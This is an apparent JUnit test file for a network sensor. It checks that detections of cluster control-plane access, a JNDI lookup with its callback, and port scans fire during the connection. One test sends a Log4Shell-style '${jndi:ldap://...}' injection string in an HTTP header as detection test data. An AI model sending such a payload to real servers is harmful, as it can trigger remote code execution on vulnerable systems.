/*
 * Copyright 2026 the Podtap authors
 * SPDX-License-Identifier: Apache-2.0
 */
package io.podtap.sensor.notice.cluster;

import static org.assertj.core.api.Assertions.assertThat;

import io.podtap.sensor.notice.NoticeTalk;
import java.time.Duration;
import org.junit.jupiter.api.Test;

/** What is found while the connection is open: no record of it has been written. */
class EarlyFindingsTest {

  private static final Duration LEARNED = Duration.ofSeconds(20);

  /** Two hosts that have learned each other. */
  private static NoticeTalk learned(String detection) {
    return new NoticeTalk("detect=" + detection, "cluster.learning=10")
        .connect(80)
        .finish()
        .idle(LEARNED);
  }

  private static void assertFound(NoticeTalk talk, String... kinds) {
    assertThat(talk.kinds()).containsExactly(kinds);
    int connections = talk.rows("conn").size();
    talk.client("x").finish().idle(LEARNED);
    assertThat(talk.rows("conn").size()).isGreaterThan(connections);
    assertThat(talk.kinds()).as("the record finds nothing more").containsExactly(kinds);
    talk.close();
  }

  @Test
  void aNewEdgeIsFoundAtTheHandshake() {
    NoticeTalk talk = learned("edges").attempt(8_081);
    assertThat(talk.kinds()).isEmpty();
    assertFound(talk.connect(8_080), "Cluster::New_Edge");
  }

  @Test
  void theControlPlaneIsFoundAtTheHandshake() {
    assertFound(learned("control-plane").connect(10_250), "Cluster::Kubelet_Access");
    assertFound(learned("control-plane").connect(2_379), "Cluster::Etcd_Access");
    assertFound(learned("control-plane").connect(6_443), "Cluster::API_Server_Access");
  }

  @Test
  void whatWasAskedInTheClearIsShown() {
    try (NoticeTalk talk = learned("control-plane").connect(10_255)) {
      talk.client("GET /pods HTTP/1.1\r\nHost: n\r\n\r\n");
      talk.server("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
      assertThat(talk.values("notice", "sub")).containsExactly("GET /pods");
    }
  }

  @Test
  void theCallbackOfALookupIsFoundAtTheHandshake() {
    NoticeTalk talk = new NoticeTalk("detect=jndi").connect(8_080);
    talk.client("GET / HTTP/1.1\r\nX: ${jndi:ldap://10.0.0.2:1389/a}\r\n\r\n").finish();
    assertFound(talk.connect(1_389), "Cluster::JNDI_Lookup", "Cluster::JNDI_Callback");
  }

  @Test
  void aScanOfClosedPortsIsFoundAtTheLastRefusal() {
    NoticeTalk talk = new NoticeTalk("detect=scan");
    for (int port = 1; port <= 25; port++) {
      assertThat(talk.kinds()).isEmpty();
      talk.attempt(port).refuse();
    }
    assertThat(talk.kinds()).containsExactly("Scan::Port_Scan");
    assertThat(talk.rows("conn")).isEmpty();
    talk.idle(LEARNED);
    assertThat(talk.rows("conn")).hasSize(25);
    assertThat(talk.kinds()).hasSize(1);
    talk.close();
  }
}
